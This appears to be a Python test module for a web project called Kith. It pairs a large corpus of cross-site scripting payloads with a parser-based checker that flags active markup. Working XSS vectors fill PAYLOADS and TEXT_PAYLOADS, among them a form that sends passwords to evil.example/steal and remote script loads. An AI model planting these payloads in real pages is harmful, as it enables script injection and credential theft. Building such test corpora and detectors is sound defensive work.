"""Hostile HTML: a corpus of cross-site scripting payloads, and a reader that finds whatever
in a page could run script, load from elsewhere, or send a form elsewhere.

The payloads are written for this project from the attack classes the OWASP XSS filter
evasion cheat sheet and the HTML5 security cheat sheet describe (no third-party corpus file
is copied). Each is named for the trick it tries.

`hazards(html)` parses a page as a browser does (lexbor, a WHATWG-conformant parser: the
same tree construction, foreign-content and entity rules a browser applies, which is what
mutation XSS exploits) and lists every element or attribute that could be active. Kith's own
page furniture (its stylesheet, its forms posting to itself, its meta tags) passes.
"""

from __future__ import annotations

import re
import xml.etree.ElementTree as ET

from selectolax.lexbor import LexborHTMLParser

# --- the corpus --------------------------------------------------------------------------------

PAYLOADS: dict[str, str] = {
    # script elements, plain and disguised
    "script": "<script>alert(1)</script>",
    "script src": '<script src="https://evil.example/x.js"></script>',
    "script self-closed with data src": '<script/src="data:,alert(1)">',
    "script split by an inner script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script nested angle brackets": "<<script>alert(1)//<</script>",
    "script mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script with a NUL in its name": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "script in an attribute-less p": "<p><script>document.write('<img src=x onerror=alert(1)>')</script></p>",
    # event handlers
    "img onerror": '<img src=x onerror="alert(1)">',
    "img onerror unquoted and unclosed": "<img src=x onerror=alert(1)//",
    "body onload": "<body onload=alert(1)>",
    "p onmouseover": '<p onmouseover="alert(1)">hover me</p>',
    "a onclick beside a good href": '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    "details ontoggle": "<details open ontoggle=alert(1)><summary>s</summary></details>",
    "input autofocus onfocus": "<input autofocus onfocus=alert(1)>",
    "video source onerror": "<video><source onerror=alert(1)></video>",
    "marquee onstart": "<marquee onstart=alert(1)>m</marquee>",
    "span onpointerenter": '<span onpointerenter="alert(1)">x</span>',
    "handler after a slash": '<img/src="x"/onerror="alert(1)">',
    "handler with an entity-encoded body": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    # URL schemes
    "href javascript": '<a href="javascript:alert(1)">x</a>',
    "href javascript mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "href javascript leading space": '<a href=" javascript:alert(1)">x</a>',
    "href javascript with a tab entity": '<a href="java&#x09;script:alert(1)">x</a>',
    "href javascript with a newline entity": '<a href="java&#10;script:alert(1)">x</a>',
    "href javascript with a raw tab": '<a href="jav\tascript:alert(1)">x</a>',
    "href javascript as decimal entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "href javascript as padded entities": '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    "href javascript with a named colon": '<a href="javascript&colon;alert(1)">x</a>',
    "href javascript behind a control byte": '<a href="\x01javascript:alert(1)">x</a>',
    "href javascript comment newline": '<a href="javascript://%0aalert(1)">x</a>',
    "href vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "href VBSCRIPT": '<a href="VBSCRIPT:msgbox(1)">x</a>',
    "href data html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "href data svg": '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
    "href relative to this node": '<a href="/@alice/1/delete">x</a>',
    "href protocol-relative": '<a href="//evil.example/">x</a>',
    "img src javascript": '<img src="javascript:alert(1)">',
    "img srcset": '<img srcset="https://evil.example/a.png 1x, javascript:alert(1) 2x">',
    "a ping": '<a href="https://ok.example/" ping="https://evil.example/track">x</a>',
    # SVG and MathML
    "svg onload": "<svg onload=alert(1)>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate onbegin": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg set handler": '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>',
    "svg a xlink href": '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "svg use data": '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"></use></svg>',
    "svg foreignObject iframe": '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
    "svg style img": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "math href": '<math href="javascript:alert(1)">click</math>',
    "math maction": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # CSS
    "style attribute url": '<p style="background:url(javascript:alert(1))">x</p>',
    "style attribute expression": '<div style="width: expression(alert(1))">x</div>',
    "style attribute behavior": '<span style="behavior: url(https://evil.example/x.htc)">x</span>',
    "style attribute binding": '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    "style element import": "<style>@import 'https://evil.example/x.css';</style>",
    "style list image": '<style>li {list-style-image: url("javascript:alert(1)");}</style><ul><li>x</li></ul>',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    # meta, base and refresh
    "meta refresh javascript": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta refresh elsewhere": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "meta charset utf-7": '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "base href": '<base href="https://evil.example/">',
    "base javascript": "<base href=javascript:alert(1)//>",
    # frames, objects, embeds
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "object javascript": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="data:text/html,<script>alert(1)</script>">',
    "applet": '<applet code="X.class"></applet>',
    "frameset": "<frameset><frame src=javascript:alert(1)></frameset>",
    "portal": '<portal src="https://evil.example/"></portal>',
    # forms and buttons
    "form stealing a password": '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>',
    "button formaction": '<button formaction="https://evil.example/">x</button>',
    "input joining another form": '<input form="compose" name="visibility" value="public">',
    "form javascript action": '<form action="javascript:alert(1)"><input type="submit"></form>',
    "isindex": '<isindex action="javascript:alert(1)" type="image">',
    "link target blank": '<a href="https://evil.example/" target="_blank">tabnab</a>',
    # entity, case and encoding obfuscation
    "IMG SRC javascript upper case": "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "escaped markup stays text": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript escapes stay text": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "full-width brackets": "＜script＞alert(1)＜/script＞",
    # unclosed and malformed
    "unclosed script": "<script>alert(1)",
    "unclosed href": '<a href="javascript:alert(1)',
    "unclosed iframe": "<iframe src=https://evil.example/ <",
    "svg onload unclosed": "<svg onload=alert(1)//",
    "unbalanced quote": '<p title="x>y</p><img src=x onerror=alert(1)>',
    "processing instruction": '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    "cdata": "<![CDATA[><img src=x onerror=alert(1)>]]>",
    # attribute breakouts
    "title breakout": '<a href="https://ok.example/" title=\'"><script>alert(1)</script>\'>x</a>',
    "href breakout with entities": '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>',
    "no space before a handler": '<a href="https://ok.example/"onmouseover="alert(1)">x</a>',
    "slash instead of space": '<a/href="javascript:alert(1)">x</a>',
    "backtick quotes": "<a href=`javascript:alert(1)`>x</a>",
    "duplicate attributes": '<a href="https://ok.example/" href="javascript:alert(1)">x</a>',
    "class spoofing our page": '<a class="skip danger" href="https://evil.example/">Sign in again</a>',
    "feed breakout": '<a href="https://ok.example/" title="]]><script>alert(1)</script>">x</a>]]><script>alert(1)</script>',
    # mutation XSS classics
    "noscript title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "svg p style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "math mglyph style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    "form math mglyph": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "listing": "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "noembed": '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "iframe text": '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "textarea": '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
    "title element": '<title><img title="</title><img src onerror=alert(1)>"></title>',
    "template": "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "comment trick": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "bogus comment end": '<a href="https://ok.example/">x</a><!-- --!><img src=x onerror=alert(1)> -->',
    "select style": "<select><style></select><img src=x onerror=alert(1)></style></select>",
}

# For the parts Kith shows as text (content warnings, display names, alt text): a few
# payloads that would be markup if they were not escaped.
TEXT_PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "img onerror": '"><img src=x onerror=alert(1)>',
    "closing the summary": "</summary></details><script>alert(1)</script>",
    "closing the title": "</title><script>alert(1)</script>",
    "attribute breakout": "' onmouseover='alert(1)' x='",
    "entity stays literal": "&lt;b&gt;bold&lt;/b&gt; &amp;",
    "template syntax": "{{ 7*7 }} {% raw %}",
    "bidi override": "safe\u202etxt.exe",
}

# --- the reader ---------------------------------------------------------------------------------

ACTIVE_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style",
    "base", "template", "noscript", "portal", "audio", "video", "source", "track", "picture",
    "canvas", "isindex", "xmp", "noembed", "listing", "plaintext",
}
RESOURCE_ATTRIBUTES = {"src", "srcset", "poster", "data", "background", "dynsrc", "lowsrc", "srcdoc"}
ACTIVE_LINK_ATTRIBUTES = {"formaction", "xlink:href", "ping", "cite"}  # none of them Kith's own
SAFE_SCHEMES = {"http", "https", "mailto", "xmpp", "gemini", "gopher", "magnet", "dat", "ipfs"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
_IGNORED_IN_URLS = re.compile(r"[\x00-\x20\x7f]")


def scheme_of(url: str) -> str | None:
    """Return the scheme a browser sees in `url` (it drops ASCII whitespace and controls)."""
    match = _SCHEME.match(_IGNORED_IN_URLS.sub("", url).lower())
    return match.group(1) if match else None


def is_same_origin_path(url: str) -> bool:
    return url.startswith("/") and not url.startswith("//") and "\\" not in url


def hazards(html: str) -> list[str]:
    """Return a description of every active element or attribute in the page `html`."""
    found = []
    for node in LexborHTMLParser(html).root.traverse():
        tag = node.tag
        if tag in ACTIVE_TAGS:
            found.append(f"<{tag}> element")
        found.extend(_attribute_hazards(tag, node.attributes))
    return found


def _attribute_hazards(tag: str, attributes: dict[str, str | None]) -> list[str]:
    found = []
    for name, value in attributes.items():
        value = value or ""
        where = f"<{tag} {name}={value[:60]!r}>"
        if name.startswith("on") or name in ("style", "form", "target", "http-equiv"):
            found.append(f"attribute {where}")
        elif name in RESOURCE_ATTRIBUTES and not (tag == "img" and name == "src" and is_same_origin_path(value)):
            found.append(f"loads something: {where}")
        elif name in ACTIVE_LINK_ATTRIBUTES or name == "href" and not _safe_href(tag, value):
            found.append(f"link: {where}")
    if tag == "form" and not is_same_origin_path(attributes.get("action") or ""):
        found.append(f"a form posting elsewhere: {attributes}")
    if tag == "link" and (attributes.get("rel") not in ("stylesheet", "alternate")
                          or not is_same_origin_path(attributes.get("href") or "")):
        found.append(f"a <link> of ours it is not: {attributes}")
    if tag == "meta" and set(attributes) - {"charset", "name", "content"}:
        found.append(f"a <meta> of ours it is not: {attributes}")
    return found


def _safe_href(tag: str, href: str) -> bool:
    """An http(s)-like link out, or (only in Kith's own link and anchor markup) a path here."""
    scheme = scheme_of(href)
    if scheme is None:
        return tag in ("a", "link") and (is_same_origin_path(href) or href.startswith(("#", "?")))
    return scheme in SAFE_SCHEMES


def texts(html: str, selector: str) -> list[str]:
    """Return the text of every element `selector` matches in `html`, as a browser shows it."""
    return [node.text(deep=True) for node in LexborHTMLParser(html).css(selector)]


def attribute_values(html: str, selector: str, attribute: str) -> list[str]:
    return [node.attributes.get(attribute) or "" for node in LexborHTMLParser(html).css(selector)]


def feed_parts(xml: str) -> tuple[list[str], list[str], list[str]]:
    """Return the (HTML bodies, titles, links) of the entries of an RSS or Atom document;
    an XML parser, not a feed library, so nothing is cleaned before we look."""
    root = ET.fromstring(xml.encode())
    atom = "{http://www.w3.org/2005/Atom}"
    bodies, titles, links = [], [], []
    for entry in root.iter("item"):
        bodies += [e.text or "" for e in entry if e.tag in ("description", "{http://purl.org/rss/1.0/modules/content/}encoded")]
        titles += [e.text or "" for e in entry if e.tag == "title"]
        links += [e.text or "" for e in entry if e.tag in ("link", "guid")]
    for entry in root.iter(f"{atom}entry"):
        bodies += [e.text or "" for e in entry if e.tag in (f"{atom}content", f"{atom}summary")]
        titles += [e.text or "" for e in entry if e.tag == f"{atom}title"]
        links += [e.get("href") or "" for e in entry if e.tag == f"{atom}link"]
    return bodies, titles, links
